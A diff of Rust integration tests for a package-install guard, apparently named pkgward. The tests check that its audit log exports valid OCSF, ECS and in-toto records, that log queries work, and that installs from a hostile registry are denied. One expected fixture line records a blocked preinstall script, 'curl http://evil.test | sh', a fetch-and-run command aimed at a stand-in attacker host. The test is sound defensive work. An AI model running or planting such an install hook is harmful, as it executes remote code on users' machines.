@@ -12,6 +12,8 @@ use std::process::{Command, Output};
 
 use serde_json::{json, Value};
 
+mod support;
+
 const DATA: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/data/export");
 
 fn pkgward(args: &[&str]) -> Output {
@@ -769,4 +771,278 @@ fn export_selects_by_invocation_and_since_and_writes_a_file() {
         t.path().join("none.jsonl").to_str().unwrap(),
     ]);
     assert!(lines(&out).is_empty());
+}
+
+// ---------------------------------------------------------------- end to end
+
+fn log_query(log: &Path, args: &[&str]) -> Output {
+    let mut a = vec!["log", "--file", log.to_str().unwrap()];
+    a.extend_from_slice(args);
+    pkgward(&a)
+}
+
+/// The real npm and pip behind the shims, against the loopback registries:
+/// the log they leave exports to valid OCSF, ECS and (for what installed
+/// with digests) in-toto, and `pkgward log` finds them by package, host and
+/// invocation.
+#[test]
+fn real_installs_export_and_query() {
+    use support::guard::{evil, text, Guarded};
+    use support::{shared, NpmPackage, Wheel};
+    let r = shared();
+    let npm_pkg = r.publish_npm(&NpmPackage::new("pw-exp-ok", "1.0.0"));
+    let wheel = r.publish_wheel(&Wheel::new("pw-exp-wheel", "1.0.0"));
+    let g = Guarded::new(&format!(
+        "mode = \"enforce\"\n[registries]\nnpm = [\"{}\"]\npypi = [\"{}\"]\n",
+        r.npm_url(),
+        r.pypi_index_url()
+    ));
+    g.sb.write("package.json", r#"{"name":"app","version":"1.0.0"}"#);
+    let out = g.npm(&["install", "pw-exp-ok"], &[]);
+    assert!(out.status.success(), "{}", text(&out.stderr));
+    let target = g.sb.root().join("site");
+    let out = g.pip(
+        &[
+            "install",
+            "--target",
+            target.to_str().unwrap(),
+            "pw-exp-wheel",
+        ],
+        &[],
+    );
+    assert!(out.status.success(), "{}", text(&out.stderr));
+    let before = evil().connections().len();
+    let evil_registry = format!("http://127.0.0.1:{}/", evil().port());
+    let out = g.npm(
+        &["install", "--registry", &evil_registry, "pw-exp-other"],
+        &[],
+    );
+    assert_eq!(out.status.code(), Some(77), "{}", text(&out.stderr));
+    assert_eq!(evil().connections().len(), before);
+
+    let log = g.state.join("audit.jsonl");
+    let f = log.to_str().unwrap();
+    let audit = g.audit();
+    let ids: Vec<String> = audit
+        .iter()
+        .filter(|r| r["kind"] == "invocation")
+        .map(|r| r["invocation_id"].as_str().unwrap().to_string())
+        .collect();
+    assert_eq!(ids.len(), 3, "{audit:#?}");
+
+    // OCSF: every event valid; the three launches, their ends, the
+    // registry connections.
+    let events = lines(&pkgward(&["export", "--format", "ocsf", "--file", f]));
+    let validators = ocsf_validators();
+    for e in &events {
+        let errs = ocsf_errors(&validators, e);
+        assert!(errs.is_empty(), "{e:#}\n{errs:#?}");
+    }
+    let count = |t: u64| events.iter().filter(|e| e["type_uid"] == t).count();
+    assert!(count(100701) >= 3, "{events:#?}");
+    assert_eq!(count(100702), 3);
+    assert!(count(400101) >= 2, "{events:#?}");
+    let denied = events
+        .iter()
+        .find(|e| e["type_uid"] == 100701 && e["status_id"] == 2)
+        .expect("the denied install");
+    assert!(denied["process"]["cmd_line"]
+        .as_str()
+        .unwrap()
+        .contains("pw-exp-other"));
+
+    // ECS: every document valid.
+    let fields = load("ecs/ecs_flat.json");
+    let docs = lines(&pkgward(&["export", "--format", "ecs", "--file", f]));
+    assert_eq!(docs.len(), events.len());
+    for d in &docs {
+        let p = ecs_problems(&fields, d);
+        assert!(p.is_empty(), "{d:#}\n{p:#?}");
+    }
+
+    // in-toto: a statement for each invocation that recorded packages with
+    // digests, each valid, its digests those of the fixture artifacts.
+    let statements = lines(&pkgward(&["export", "--format", "in-toto", "--file", f]));
+    let v = intoto_validator();
+    for s in &statements {
+        let errs: Vec<String> = v.iter_errors(s).map(|e| e.to_string()).collect();
+        assert!(errs.is_empty(), "{s:#}\n{errs:#?}");
+    }
+    let with_digests: BTreeSet<&str> = audit
+        .iter()
+        .filter(|r| r["kind"] == "package" && r["change"] != "removed")
+        .filter(|r| {
+            r.get("sha256").is_some_and(|v| !v.is_null())
+                || r.get("integrity")
+                    .is_some_and(|v| v.as_array().is_some_and(|a| !a.is_empty()))
+        })
+        .map(|r| r["invocation_id"].as_str().unwrap())
+        .collect();
+    assert_eq!(statements.len(), with_digests.len(), "{statements:#?}");
+    let sri = npm_pkg.integrity.trim_start_matches("sha512-");
+    let npm_sha512 = pkgward::export::hex_digest("sha512", sri).unwrap().1;
+    for s in &statements {
+        for subj in s["subject"].as_array().unwrap() {
+            let name = subj["name"].as_str().unwrap();
+            if name.starts_with("pkg:npm/pw-exp-ok@") {
+                assert_eq!(subj["digest"]["sha512"], npm_sha512.as_str(), "{s:#}");
+            }
+            if name.starts_with("pkg:pypi/pw-exp-wheel@") {
+                assert_eq!(subj["digest"]["sha256"], wheel.sha256.as_str(), "{s:#}");
+            }
+        }
+    }
+
+    // log --package: the install that named it.
+    let out = log_query(&log, &["--package", "pw-exp-ok", "--json"]);
+    let found = lines(&out);
+    assert_eq!(found.len(), 1, "{found:#?}");
+    assert_eq!(found[0]["invocation_id"], ids[0].as_str());
+    let out = log_query(&log, &["--package", "PW_EXP.WHEEL"]);
+    assert_eq!(
+        text(&out.stdout).lines().count(),
+        1,
+        "{}",
+        text(&out.stdout)
+    );
+    assert!(text(&out.stdout).contains(&format!("id={}", ids[1])));
+    // log --host: both installs reached the loopback registry; the denied
+    // one connected nowhere.
+    let port = r.server.handle().port();
+    let out = log_query(&log, &["--host", "127.0.0.1", "--json"]);
+    let found: Vec<String> = lines(&out)
+        .iter()
+        .map(|v| v["invocation_id"].as_str().unwrap().to_string())
+        .collect();
+    assert_eq!(found, ids[..2].to_vec());
+    let out = log_query(
+        &log,
+        &["--host", &format!("127.0.0.1:{port}"), "--tool", "pip"],
+    );
+    assert_eq!(text(&out.stdout).lines().count(), 1);
+    let out = log_query(&log, &["--host", "evil.test"]);
+    assert_eq!(text(&out.stdout), "");
+    // log --invocation: the tree, with its connections and exit.
+    let out = log_query(&log, &["--invocation", &ids[0]]);
+    let human = text(&out.stdout);
+    assert!(out.status.success(), "{}", text(&out.stderr));
+    assert!(
+        human
+            .lines()
+            .next()
+            .unwrap()
+            .contains("npm install pw-exp-ok"),
+        "{human}"
+    );
+    assert!(human.contains("connection  allow"), "{human}");
+    assert!(human.contains(&npm_pkg.tarball_path), "{human}");
+    let out = log_query(&log, &["--invocation", &ids[0][..13], "--json"]);
+    if out.status.success() {
+        // (a prefix shared by none of the others: the same tree)
+        let recs = lines(&out);
+        assert!(recs.iter().all(|r| r["invocation_id"] == ids[0].as_str()));
+    } else {
+        assert!(text(&out.stderr).contains("give more of the id"));
+    }
+    let recs = lines(&log_query(&log, &["--invocation", &ids[0], "--json"]));
+    assert_eq!(recs[0]["kind"], "invocation");
+    assert!(recs.iter().any(|r| r["kind"] == "exit"));
+    assert!(recs.iter().any(|r| r["kind"] == "connection"));
+    assert_eq!(
+        recs.len(),
+        audit
+            .iter()
+            .filter(|r| r["invocation_id"] == ids[0].as_str())
+            .count()
+    );
+}
+
+#[test]
+fn log_reads_rotated_files_and_queries_the_fixture() {
+    let t = tempfile::tempdir().unwrap();
+    let log = fixture(t.path());
+    // All four invocations, from the three files, oldest first.
+    let out = log_query(&log, &["--json"]);
+    let all = lines(&out);
+    assert_eq!(all.len(), 4);
+    assert!(text(&out.stderr).contains("not valid JSON"));
+    assert_eq!(
+        all[0]["exit"]["exit_code"], 0,
+        "the exit is in another file"
+    );
+    // --package: by a package record (requests, changed), a script record
+    // (evil), the command line (left-pad@1.3.0; requests==2.32.0).
+    let ids = |args: &[&str]| -> Vec<String> {
+        let mut a = args.to_vec();
+        a.push("--json");
+        lines(&log_query(&log, &a))
+            .iter()
+            .map(|v| v["invocation_id"].as_str().unwrap()[34..].to_string())
+            .collect()
+    };
+    assert_eq!(ids(&["--package", "left-pad"]), ["0a"]);
+    assert_eq!(ids(&["--package", "requests"]), ["0a", "0d"]);
+    assert_eq!(ids(&["--package", "evil"]), ["0a", "0c"]);
+    assert_eq!(ids(&["--package", "old"]), ["0a"]);
+    assert!(ids(&["--package", "left"]).is_empty());
+    // --host: proxy and artifact hosts, traced IPs, with or without port.
+    assert_eq!(ids(&["--host", "EVIL.test"]), ["0a"]);
+    assert_eq!(ids(&["--host", "127.0.0.1:4873"]), ["0a"]);
+    assert!(ids(&["--host", "127.0.0.1:1"]).is_empty());
+    assert_eq!(ids(&["--host", "::1"]), ["0b"]);
+    assert_eq!(ids(&["--host", "[::1]:9"]), ["0b"]);
+    // Filters combine.
+    assert_eq!(ids(&["--package", "evil", "--denied"]), ["0c"]);
+    // --invocation: the tree in order, the child indented under it.
+    let out = log_query(
+        &log,
+        &["--invocation", "01900000-0000-7000-8000-00000000000a"],
+    );
+    let human = text(&out.stdout);
+    assert!(out.status.success(), "{}", text(&out.stderr));
+    for needle in [
+        "npm install left-pad@1.3.0",
+        "process     pid 5000 /usr/bin/node",
+        "connection  deny       CONNECT evil.test:443",
+        "artifact    GET http://127.0.0.1:4873/left-pad/-/left-pad-1.3.0.tgz 200 2048 bytes  sha256:9f86d081884c7d65",
+        "artifact    GET http://127.0.0.1:4873/broken.tgz 200 10 bytes  (incomplete)",
+        "script      deny       evil@6.6.6 preinstall: curl http://evil.test | sh  (did not run)",
+        "file        created    /home/dev/project/node_modules/.bin/left-pad",
+        "package     changed    requests 2.32.0 (was 2.31.0)",
+        "[flagged: a shell started by install-time code]",
+        "watch       truncated",
+        "    2026-01-01 10:00:01  node-gyp",
+        "      connection  would-deny connect ::1:9",
+    ] {
+        assert!(human.contains(needle), "{needle}\n{human}");
+    }
+    assert!(!human.contains("pip install"), "{human}");
+    let recs = lines(&log_query(
+        &log,
+        &[
+            "--invocation",
+            "01900000-0000-7000-8000-00000000000b",
+            "--json",
+        ],
+    ));
+    assert_eq!(
+        recs.len(),
+        3,
+        "the child alone: invocation, connection, exit"
+    );
+    let out = log_query(
+        &log,
+        &["--invocation", "01900000-0000-7000-8000-0000000000ff"],
+    );
+    assert_eq!(out.status.code(), Some(78));
+    let out = log_query(&log, &["--invocation", "01900000", "--json"]);
+    assert_eq!(out.status.code(), Some(78));
+    assert!(
+        text(&out.stderr).contains("matches 4"),
+        "{}",
+        text(&out.stderr)
+    );
+    // --invocation shows one tree: it does not mix with list filters.
+    let out = log_query(&log, &["--invocation", "x", "--tool", "npm"]);
+    assert_eq!(out.status.code(), Some(2));
 }
